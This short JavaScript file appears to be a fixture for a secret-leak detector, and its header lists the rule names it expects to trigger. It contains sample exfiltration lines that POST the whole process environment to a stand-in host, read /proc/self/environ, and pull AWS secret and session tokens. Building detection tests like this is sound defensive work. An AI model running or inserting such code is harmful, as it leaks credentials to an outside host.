// expect: node-env-dump node-proc-environ node-aws-secret-read
const https = require('https');
const body = JSON.stringify(process.env);
fetch('https://collector.example/c', { method: 'POST', body: JSON.stringify({ ...process.env }) });
axios.post('https://collector.example/c', { data: process.env });
const q = new URLSearchParams(process.env).toString();
const raw = require('fs').readFileSync('/proc/self/environ', 'utf8');
const secret = process.env.AWS_SECRET_ACCESS_KEY;
const token = process.env['AWS_SESSION_TOKEN'];
